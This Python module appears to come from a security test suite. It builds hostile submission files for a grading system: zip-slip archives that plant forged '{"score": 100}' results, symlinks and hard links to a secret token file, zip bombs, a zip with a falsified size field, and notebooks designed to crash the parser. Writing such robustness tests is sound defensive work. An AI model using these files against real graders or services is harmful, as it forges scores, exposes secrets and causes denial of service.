"""Attacks by the file that is handed in, before any of its code runs."""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any


def attacks(targets: dict[str, Any]) -> list[Any]:
    """The archives and notebooks, as attacks."""
    from . import Attack

    made = (zip_slip, zip_link, zip_bomb, zip_nested, zip_entries, zip_lying, tar_link, link, device, notebook_100_mb,
            notebook_deep, notebook_cells, notebook_types, cell_deep, empty_file, binary)  # fmt: skip

    def bind(write: Callable[..., Path], what: str) -> Any:
        def make(names: Sequence[str], directory: Path) -> Path:
            return write(targets, names, Path(directory))

        return Attack(f"{write.__name__}@file", what, make)

    return [bind(write, (write.__doc__ or "").rstrip(".")) for write in made]


def _code(names: Sequence[str]) -> str:
    return "".join(f"def {name}(*given, **more):\n    return 0.0\n\n\n" for name in names)


def _cell(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def _notebook(cells: list[Any]) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def zip_slip(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive whose names climb out of the folder that it is unpacked into."""
    path = directory / "zip_slip.zip"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("submission.py", _code(names))
        for name in (f"../../../../..{targets['results']}", targets["results"], f"..\\{targets['marker']}"):
            file.writestr(name, '{"score": 100}')
        for folder in targets["shared"]:
            file.writestr(f"../../../../../../..{folder}/{targets['marker']}-slip", "x")
    return path


def zip_link(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive whose submission is a symbolic link to the secret."""
    path = directory / "zip_link.zip"
    with zipfile.ZipFile(path, "w") as file:
        entry = zipfile.ZipInfo("submission.py")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        file.writestr(entry, targets["token_file"])
        folder = zipfile.ZipInfo("out")
        folder.create_system, folder.external_attr = 3, 0o120777 << 16
        file.writestr(folder, targets["folder"])
        file.writestr("out/results.json", '{"score": 100}')
    return path


def zip_bomb(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive of 400 KB that unpacks to 400 MB."""
    path = directory / "zip_bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file, file.open("submission.py", "w") as entry:
        entry.write(_code(names).encode())
        for _ in range(400):
            entry.write(b" " * (1 << 20))
    return path


def zip_nested(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive of archives, 20 levels deep."""
    data, name = _code(names).encode(), "submission.py"
    for _ in range(20):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
            for copy in range(3):
                file.writestr(f"{copy}{name}", data)
        data, name = buffer.getvalue(), "submission.zip"
        if len(data) > 1 << 20:
            break
    path = directory / "zip_nested.zip"
    path.write_bytes(data)
    return path


def zip_entries(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive of 30,000 files."""
    path = directory / "zip_entries.zip"
    with zipfile.ZipFile(path, "w") as file:
        for number in range(30_000):
            file.writestr(f"{number}.py", "")
    return path


def zip_lying(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """archive whose directory understates what it holds."""
    path = directory / "zip_lying.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("submission.py", _code(names) + "#" * (100 << 20))
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    path.write_bytes(data)
    return path


def tar_link(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """tar archive with hard links to the secret, under the name of a zip."""
    path = directory / "tar_link.zip"
    with tarfile.open(path, "w") as file:
        entry = tarfile.TarInfo("submission.py")
        entry.type, entry.linkname = tarfile.LNKTYPE, targets["token_file"]
        file.addfile(entry)
    return path


def link(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """submission that is itself a symbolic link to the secret."""
    path = directory / "link.py"
    path.unlink(missing_ok=True)
    path.symlink_to(targets["token_file"])
    return path


def device(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """submission that is a pipe without an end."""
    path = directory / "device.py"
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    return path


def notebook_100_mb(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """notebook of 100 MB."""
    path = directory / "notebook_100_mb.ipynb"
    with path.open("w") as file:
        head, tail = _notebook(
            [_cell(_code(names)), {"cell_type": "markdown", "metadata": {}, "source": "FILL"}]
        ).split("FILL")
        file.write(head)
        for _ in range(100):
            file.write("x" * (1 << 20))
        file.write(tail)
    return path


def notebook_deep(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """notebook of a million nested lists."""
    path = directory / "notebook_deep.ipynb"
    path.write_text('{"nbformat": 4, "cells": ' + "[" * 1_000_000 + "]" * 1_000_000 + "}")
    return path


def notebook_cells(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """notebook of 50,000 cells."""
    path = directory / "notebook_cells.ipynb"
    path.write_text(_notebook([_cell("x = 1")] * 50_000))
    return path


def notebook_types(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """notebook whose fields have every type but the right one."""
    path = directory / "notebook_types.ipynb"
    cells: list[Any] = [None, 5, "x", [], {}, {"cell_type": "code"}, {"cell_type": 7, "source": {}}]
    cells.append({**_cell(""), "source": [1, None]})
    path.write_text(_notebook([*cells, {**_cell(_code(names)), "metadata": {"tags": {"answer": 1}}}]))
    return path


def cell_deep(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """cell whose expression is nested too deep for the parser."""
    path = directory / "cell_deep.py"
    path.write_text("# %%\n" + _code(names) + "x = " + "(" * 50_000 + ")" * 50_000 + "\ny = " + "-" * 50_000 + "1\n")
    return path


def empty_file(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """empty file."""
    path = directory / "empty_file.ipynb"
    path.write_bytes(b"")
    return path


def binary(targets: dict[str, Any], names: Sequence[str], directory: Path) -> Path:
    """a megabyte of noise under the name of a notebook."""
    path = directory / "binary.ipynb"
    path.write_bytes(os.urandom(1 << 20))
    return path
